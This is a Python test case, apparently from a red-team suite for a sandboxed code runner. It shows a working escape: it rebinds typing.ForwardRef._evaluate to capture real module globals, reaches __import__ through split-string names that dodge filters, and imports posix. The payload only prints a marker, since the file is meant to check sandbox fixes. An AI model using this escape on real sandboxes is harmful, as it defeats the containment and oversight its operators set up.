# Variant of 04 that a fix checking `type(t) is ForwardRef` in _eval_type would not close: the
# job rebinds the real class's method (type.__setattr__(ForwardRef, "_evaluate", f); __setattr__
# is a harmless dunder, ForwardRef a pure-Python class) and hands get_type_hints a plain string
# annotation. get_type_hints makes a genuine ForwardRef("int") and calls its _evaluate with the
# globals of whatever obj.__wrapped__ leads to (here heapq.merge's): the job's function receives
# them before anything is evaluated, so the exec audit never runs. Same class as 04: typing's
# evaluation machinery passes real namespaces to code the job controls.
# Found by a fifth red-team review (strict policy).
# Prints the marker only if the forbidden operation succeeded. Run ONLY through `codeq run`.
NAME = "151_forwardref_evaluate_rebound"


def won(evidence):
    print("BYPASS-OK:" + NAME, evidence, flush=True)


import functools
import heapq
import typing

FR = type(typing.get_args(typing.List["int"])[0])
got = []


def evaluate(self, globalns, localns, recursive_guard):
    got.append(globalns)
    return int


type.__setattr__(FR, "_evaluate", evaluate)


class Target:
    pass


t = Target()
t.__annotations__ = {"x": "int"}
t.__wrapped__ = heapq.merge


@functools.singledispatch
def f(x):
    return x


try:
    f.register(t)
except Exception as e:
    print("register:", type(e).__name__, e)
glb = got[0]
posix = glb["__buil" + "tins__"]["__imp" + "ort__"]("posix")
won("globals_of=%s posix.getpid()=%s" % (glb["__name__"], posix.getpid()))
